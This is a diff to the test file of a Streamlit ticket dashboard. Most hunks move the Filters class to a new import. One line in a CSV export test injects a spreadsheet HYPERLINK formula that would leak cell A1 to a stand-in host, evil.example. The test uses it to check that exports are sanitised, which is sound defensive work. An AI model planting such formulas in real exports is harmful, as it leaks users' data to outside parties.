@@ -22,6 +22,7 @@ from streamlit.testing.v1 import AppTest
 
 from dashboard import launcher
 from dashboard.analysis import hotspots, metrics
+from dashboard.analysis.filters import Filters
 from dashboard.ingest.load import ingest_files
 from dashboard.render import assets, exports, lod, maps
 from tests.apptest import open_page, plain, serving
@@ -96,9 +97,9 @@ def texts(at: AppTest) -> list[str]:
 
 def test_coverage_counts_what_the_tickets_carry(no_finish: Path, with_finish: Path) -> None:
     with duckdb.connect(str(no_finish), read_only=True) as con:
-        none = metrics.data_coverage(con, filters=metrics.Filters())
+        none = metrics.data_coverage(con, filters=Filters())
     with duckdb.connect(str(with_finish), read_only=True) as con:
-        some = metrics.data_coverage(con, filters=metrics.Filters())
+        some = metrics.data_coverage(con, filters=Filters())
     assert (none.tickets, none.finished, none.finish_time, none.star, none.after_photo) == (
         7,
         3,
@@ -199,7 +200,7 @@ def test_the_reopened_share_is_over_the_tickets_that_have_a_reopen_count(
     with duckdb.connect(str(no_finish), read_only=True) as con:
         audit = review.closure_audit(
             con,
-            filters=metrics.Filters(),
+            filters=Filters(),
             layer=boundaries.load_districts(data_dir=data_dir),
             settings=review.ReviewSettings(),
         )
@@ -225,7 +226,7 @@ def test_the_about_page_lists_coverage(no_finish: Path, app_on: object) -> None:
 
 def test_geojson_download_works_when_no_ticket_has_a_finish_time(no_finish: Path) -> None:
     with duckdb.connect(str(no_finish), read_only=True) as con:
-        frame, _ = metrics.tickets_page(con, filters=metrics.Filters(), as_of=AS_OF)
+        frame, _ = metrics.tickets_page(con, filters=Filters(), as_of=AS_OF)
     assert frame["last_activity"].isna().all()
     table = exports.export_frame(
         frame, names={"1006": "Bang Kapi"}, lang="en", with_finish_times=True
@@ -273,7 +274,7 @@ def test_a_view_over_the_byte_cap_draws_the_oldest_open_first_and_says_so(
         def layer(**kwargs: Any) -> lod.TicketLayer:
             return lod.ticket_layer(
                 con,
-                filters=metrics.Filters(district="1006"),
+                filters=Filters(district="1006"),
                 as_of=AS_OF,
                 viewport=district,
                 lang="en",
@@ -456,7 +457,7 @@ def test_the_district_page_without_a_district_says_what_to_do(
 def test_the_ticket_search_looks_in_comments_unless_asked(no_finish: Path) -> None:
     with duckdb.connect(str(no_finish), read_only=True) as con:
         con.execute("SET TimeZone='UTC'")
-        args = {"filters": metrics.Filters(), "as_of": AS_OF}
+        args = {"filters": Filters(), "as_of": AS_OF}
         _, in_comments = metrics.tickets_page(con, q="1006", **args)  # type: ignore[arg-type]
         _, everywhere = metrics.tickets_page(con, q="O1", scope="all", **args)  # type: ignore[arg-type]
     assert (in_comments, everywhere) == (0, 1)
@@ -464,7 +465,7 @@ def test_the_ticket_search_looks_in_comments_unless_asked(no_finish: Path) -> No
 
 def test_csv_has_bangkok_times_names_links_and_no_formula(no_finish: Path) -> None:
     with duckdb.connect(str(no_finish), read_only=True) as con:
-        frame, _ = metrics.tickets_page(con, filters=metrics.Filters(), as_of=AS_OF, sort="oldest")
+        frame, _ = metrics.tickets_page(con, filters=Filters(), as_of=AS_OF, sort="oldest")
     frame.loc[0, "comment"] = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
     table = exports.export_frame(
         frame,
